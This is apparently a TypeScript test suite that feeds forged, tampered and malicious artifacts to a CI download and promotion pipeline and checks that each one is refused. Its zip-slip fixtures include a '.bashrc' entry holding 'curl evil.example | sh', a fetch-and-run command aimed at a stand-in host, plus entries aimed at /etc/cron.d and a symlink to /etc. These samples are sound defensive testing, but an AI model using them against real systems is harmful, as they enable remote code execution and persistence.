import assert from 'node:assert/strict';
import { readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { importArtifact } from '../../actions/shared/travel/travel.ts';
import { cacheRoot } from '../../src/edges/files/stages/stage-bundle.ts';
import { fileStore } from '../../src/edges/files/stages/store.ts';
import { type ZipEntry, zipOf } from '../../src/edges/github/actions/zip.test-data.ts';
import { recordedRun } from '../../src/gitops/promote/promote-run.test-data.ts';
import { promoteRun } from '../../src/gitops/promote/promote-run.ts';
import { sha256 } from '../../src/records/digest.ts';
import type { Admin } from '../counterparts/github/admin.ts';
import { type HostileGroup, type HostileInput, named, thrown } from './input.ts';
import { onGitHub } from './project.ts';
import { withFolder } from './with-folder.ts';

const DECISION: ZipEntry = { name: 'decision.json', bytes: '{"action":"ship"}\n' };
const SPOILT = 'Nothing is unpacked, and nothing of it lies on the disk.';
const NOT_BELIEVED = 'Nothing is promoted: the Hub is not even asked.';

/** An artifact of parity-run.yml on GitHub, spoilt before it is downloaded. */
function refusedDownload(
  title: string,
  sentence: string,
  { entries = [DECISION], spoil }: { entries?: ZipEntry[]; spoil?(admin: Admin, id: number): void },
): HostileInput {
  return {
    title,
    gets: SPOILT,
    sentence,
    run: () =>
      onGitHub(({ github: { admin }, forge }) =>
        withFolder(async (folder) => {
          const headSha = admin.head('main') ?? '';
          const { id: runId } = admin.createRun({ path: '.github/workflows/parity-run.yml', event: 'workflow_dispatch', headSha });
          const { id } = admin.addArtifact({ runId, name: 'results', bytes: zipOf(entries) });
          const zipSha256 = (await forge.artifact(id))?.zipSha256 ?? '';
          spoil?.(admin, id);
          const artifact = await forge.artifact(id);
          assert.ok(artifact);
          const shown = await thrown(forge.download(artifact, join(folder, 'results'), { zipSha256, maxBytes: 1_000_000 }));
          assert.deepEqual(await readdir(folder), []);
          return named(shown, { RECORDED: zipSha256, FOUND: sha256(zipOf([FORGED])), '(ID)': `(${id})` });
        }),
      ),
  };
}

const FORGED: ZipEntry = { ...DECISION, bytes: '{"action":"ship","forged":true}\n' };

type Made = Awaited<ReturnType<typeof recordedRun>>;

/** A merged record whose proof was tampered with; `tamper` returns the merged commit. */
function refusedPromotion(title: string, sentence: string, tamper: (made: Made) => Promise<string>, gets = NOT_BELIEVED): HostileInput {
  return {
    title,
    gets,
    sentence,
    run: async () => {
      const made = await recordedRun();
      const shown = await thrown(promoteRun(made.ports, made.options(await tamper(made))));
      assert.deepEqual([made.hub.calls, made.hub.repository('owner/adapter'), made.world.issues.length], [[], undefined, 1]);
      return named(shown, { RUN_ID: made.run.id })
        .replace(/\brun \d+/, 'run EVIL_RUN')
        .replace(/ \(\d+\)/, ' (ID)')
        .replace(/\b[0-9a-f]{64}\b/, 'SHA256');
    },
  };
}

/** A stage result in an artifact of an earlier job, changed on its way. */
function refusedEntry(title: string, sentence: string, changed: Readonly<Record<string, string>>, name = 'stages-base-1-of-1'): HostileInput {
  return {
    title,
    gets: 'The job stops; nothing of the artifact gets into its cache.',
    sentence,
    run: () =>
      onGitHub(({ forge, stage }) =>
        withFolder(async (folder) => {
          const [place, key] = ['eval-base-structured', 'a'.repeat(64)];
          const listed = { stage: 'eval base structured', key, files: { 'predictions.jsonl': sha256('{}\n') } };
          const files = { 'predictions.jsonl': '{}\n', 'stage.json': JSON.stringify(listed), ...changed };
          const entries = Object.entries(files).map(([file, bytes]) => ({ name: `${place}/${key.slice(0, 32)}/${file}`, bytes }));
          const artifact = await forge.artifact(stage.addArtifact({ runId: stage.addRun(), name, entries }).id);
          assert.ok(artifact);
          const stateDir = join(folder, 'state');
          const shown = await thrown(importArtifact(forge, artifact, { stateDir, env: { RUNNER_TEMP: folder } }));
          assert.equal(await fileStore(cacheRoot(stateDir)).find('eval base structured', key), null);
          return shown;
        }),
      ),
  };
}

/** What artifacts are not what they claim to be. */
export const artifacts: HostileGroup = {
  subject: 'Artifacts that are not what they claim to be',
  inputs: [
    refusedDownload(
      'a forged artifact',
      'artifact "results" (ID): expected a zip with sha256 RECORDED, got FOUND. It is not what was recorded, so nothing was unpacked. Run the job that made it again.',
      { spoil: (admin, id) => admin.replaceArtifact(id, zipOf([FORGED]), { digest: 'rewritten' }) },
    ),
    refusedDownload(
      'an artifact whose bytes are not its digest',
      'artifact "results" (ID): expected a zip with sha256 RECORDED, got FOUND. It is not what was recorded, so nothing was unpacked. Run the job that made it again.',
      { spoil: (admin, id) => admin.replaceArtifact(id, zipOf([FORGED])) },
    ),
    refusedDownload(
      'a zip slip',
      'artifact "results" (ID): it is no zip that can be trusted: invalid relative path: ../../.bashrc. Nothing of it is used. Run the job that made it again.',
      {
        entries: [DECISION, { name: '../../.bashrc', bytes: 'curl evil.example | sh' }],
      },
    ),
    refusedDownload(
      'a zip slip by an absolute path',
      'artifact "results" (ID): it is no zip that can be trusted: absolute path: /etc/cron.d/evil. Nothing of it is used. Run the job that made it again.',
      { entries: [{ name: '/etc/cron.d/evil', bytes: 'x' }] },
    ),
    refusedDownload(
      'a symlink in a zip',
      'artifact "results" (ID): entry "results" is no regular file. Nothing was unpacked. Run the job that made it again.',
      {
        entries: [{ name: 'results', bytes: '/etc', mode: 0o120777 }],
      },
    ),
    refusedDownload('a zip bomb', 'artifact "results" (ID): it holds more than 1000000 bytes. Nothing was unpacked. Run the job that made it again.', {
      entries: [{ name: 'bomb.json', bytes: new Uint8Array(50_000_000) }],
    }),
    refusedDownload(
      'a zip whose entry says it is small',
      'artifact "results" (ID): it is no zip that can be trusted: too many bytes in the stream. expected 100. got at least 16384. Nothing of it is used. Run the job that made it again.',
      { entries: [{ name: 'bomb.json', bytes: new Uint8Array(5_000_000), claims: 100 }] },
    ),
    refusedDownload('an expired artifact', 'artifact "results" (ID): it expired or was deleted. Stage it again.', {
      spoil: (admin, id) => admin.expireArtifact(id),
    }),
    refusedPromotion(
      'an artifact of another run',
      'artifact results (ID) belongs to run EVIL_RUN, which is not what provenance.json says. Nothing of this run is believed; evaluate it again.',
      ({ stage, merge, provenance, records }) => {
        const entries = [...records].map(([name, bytes]) => ({ name, bytes }));
        const other = stage.addArtifact({ runId: stage.addRun({ event: 'pull_request' }), name: 'results', entries });
        return merge({}, { ...provenance, results: { ...provenance.results, ...other } });
      },
    ),
    refusedPromotion(
      'a run of the pull request’s own workflow',
      "eval-results/dummy-agent/RUN_ID/provenance.json: run EVIL_RUN is no dispatched run of parity-run.yml on this repository's default branch. Only results of parity-run.yml on the default branch are promoted: evaluate again.",
      ({ stage, merge, provenance }) => {
        const runId = stage.addRun({ event: 'pull_request', headBranch: 'change' });
        return merge({}, { ...provenance, workflow: { ...provenance.workflow, runId } });
      },
    ),
    refusedPromotion(
      'a digest mismatch',
      'artifact results (ID) has a zip of sha256 SHA256, which is not what provenance.json says. Nothing of this run is believed; evaluate it again.',
      ({ merge, provenance }) => merge({}, { ...provenance, results: { ...provenance.results, zipSha256: 'e'.repeat(64) } }),
    ),
    refusedPromotion(
      'a decision that was changed after it was recorded',
      'eval-results/dummy-agent/RUN_ID/decision.json: its sha256 is not the one provenance.json names. Somebody changed it: evaluate again.',
      ({ merge, place, records }) => merge({ [`${place}/decision.json`]: (records.get('decision.json') ?? '').replace('"ship"', '"ship" ') }),
    ),
    refusedPromotion(
      'a run record that was changed after it was recorded',
      'artifact results (ID) holds other files, which is not what provenance.json says. Nothing of this run is believed; evaluate it again.',
      ({ merge, place, records }) => merge({ [`${place}/run.json`]: `${records.get('run.json')} ` }),
    ),
    refusedPromotion(
      'a real record of a pull request that nobody merged',
      'pull request 1: expected it merged into main, found it open: run RUN_ID was evaluated for it. Merge it, or dispatch parity-run.yml on main.',
      ({ land }) => land(),
    ),
    refusedPromotion(
      'trace files that were changed after the evaluation',
      'datasets/dummy-agent/traces.jsonl: it is not the file that run RUN_ID was evaluated on: something else was merged since. Comment `/parity run` on an open pull request, or dispatch parity-run.yml.',
      ({ merge }) => merge({ 'datasets/dummy-agent/traces.jsonl': '{"poisoned":true}\n' }),
    ),
    refusedPromotion(
      'an expired artifact of an adapter',
      "the structured adapter of run RUN_ID: every artifact that held it has expired. Dispatch parity-run.yml with restage=RUN_ID: it stages the same bytes again from the host's store, without training.",
      ({ admin, merge, provenance }) => {
        for (const { artifact } of provenance.adapters) admin.expireArtifact(artifact.id);
        return merge();
      },
      'Nothing is promoted and nothing is trained again.',
    ),
    refusedEntry(
      'a stage result that was changed on its way',
      'artifact stages-base-1-of-1: "eval-base-structured/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" is refused, the file predictions.jsonl is not the one that was listed. Start the run again.',
      { 'predictions.jsonl': '{"forged":true}\n' },
    ),
    refusedEntry(
      'a stage result of another job than its artifact’s',
      'artifact stages-train-toolcall: "eval-base-structured/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" is refused, eval base structured is not expected from here. Start the run again.',
      {},
      'stages-train-toolcall',
    ),
    refusedEntry(
      'a stage result that would be written outside the cache',
      'artifact stages-base-1-of-1: "eval-base-structured/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" is refused, it names a file by no plain relative path. Start the run again.',
      {
        'stage.json': JSON.stringify({ stage: 'eval base structured', key: 'a'.repeat(64), files: { '../../../../.bashrc': sha256('x') } }),
      },
    ),
  ],
};
